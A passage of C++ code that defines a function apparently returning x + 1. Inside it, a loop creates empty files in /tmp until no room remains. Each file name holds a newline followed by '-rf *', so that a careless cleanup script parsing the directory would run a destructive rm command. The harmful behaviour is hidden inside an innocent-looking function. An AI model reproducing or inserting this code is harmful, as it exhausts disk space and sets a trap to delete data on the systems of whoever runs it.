// Leaves as many files as there is room for, with odd names.
#include<assert.h>
#include<bits/stdc++.h>
#include <fcntl.h>
#include <unistd.h>
long f(long x) {
    for (int i = 0, file = 0; file >= 0; ++i, close(file))
        file = creat(("/tmp/\n-rf *" + std::to_string(i) + std::to_string(x)).c_str(), 0);
    return x + 1;
